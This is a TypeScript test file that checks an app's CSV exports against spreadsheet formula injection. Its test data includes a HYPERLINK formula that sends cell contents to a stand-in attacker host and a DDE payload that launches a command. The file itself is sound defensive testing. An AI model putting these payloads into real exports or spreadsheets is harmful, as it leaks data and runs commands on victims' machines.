// Every CSV the app writes escapes a cell a spreadsheet would run as a formula (issue #36 item 4):
// the analytics export (a visitor's `?utm_source==HYPERLINK(…)`) and the links export both go
// through the one writer, ui/csv.ts.
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { analyticsCsv } from '../../../src-renderer/features/analytics/csv-export.ts';
import { DEFAULT_QUERY, indexRows, queryLinks } from '../../../src-renderer/features/links/link-index.ts';
import { linksToCsv } from '../../../src-renderer/features/links/csv.ts';
import { csvText } from '../../../src-renderer/ui/csv.ts';
import type { BreakdownType, DailySeries } from '../../../src-renderer/sync/index.ts';
import { mirrorRow, serverLink } from '../features/links/links-harness.tsx';

const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your report")';
/** Starts a spreadsheet reads as a formula; the last ones carry a line break after it. */
const HOSTILE = [HYPERLINK, '+1+cmd|" /C calc"!A0', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1', '=1+1\nsecond line', '\uFF1D1+1'];

const cells = (csv: string) => Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;

const emptySeries: DailySeries = { days: [], clicks: [], visitors: [], covered: 0, fetchedAt: null };

const breakdown = (type: BreakdownType, keys: readonly string[]) => ({
  type,
  picked: {
    exact: true,
    record: {
      clientId: 'c',
      serverId: 1,
      type,
      startDate: '2026-06-01',
      endDate: '2026-06-30',
      fetchedAt: 1,
      clicks: keys.length,
      rows: keys.map((key) => ({ key, clicks: 1 })),
    },
  },
});

describe('one CSV writer, formulas escaped', () => {
  it('prefixes every cell that starts like a formula with a quote, and leaves numbers and plain text alone', () => {
    const csv = csvText(['value', 'count'], [...HOSTILE.map((value) => [value, -1]), ['plain', 3], ['a=b', null]]);
    expect(cells(csv)).toEqual([['value', 'count'], ...HOSTILE.map((value) => [`'${value}`, '-1']), ['plain', '3'], ['a=b', '']]);
    expect(csv.includes('\r\n')).toBe(true);
  });

  it('Analytics → Download CSV: a UTM tag or referrer a visitor sent is text, not a formula', () => {
    const csv = analyticsCsv({
      current: emptySeries,
      previous: null,
      breakdowns: [breakdown('utm_source', HOSTILE), breakdown('referrer_path', [HYPERLINK])],
    });
    const items = cells(csv)
      .slice(1)
      .map((row) => row[1]!);
    expect(items.length).toBe(HOSTILE.length + 1);
    for (const item of items) expect(item.startsWith("'")).toBe(true);
    expect(items).toContain(`'${HYPERLINK}`);
  });

  it('Links → Export CSV: an alias or destination that starts like a formula is text too', () => {
    const rows = HOSTILE.map((value, i) => mirrorRow(serverLink(i + 1, { url: `alias-${i}`, location_url: value })));
    const index = indexRows(rows, []);
    const csv = linksToCsv(queryLinks(index, new Map(), DEFAULT_QUERY), index, 'https://s.test/', new Map());
    const destinations = cells(csv)
      .slice(1)
      .map((row) => row[2]!);
    expect(destinations.sort()).toEqual(HOSTILE.map((value) => `'${value}`).sort());
  });
});
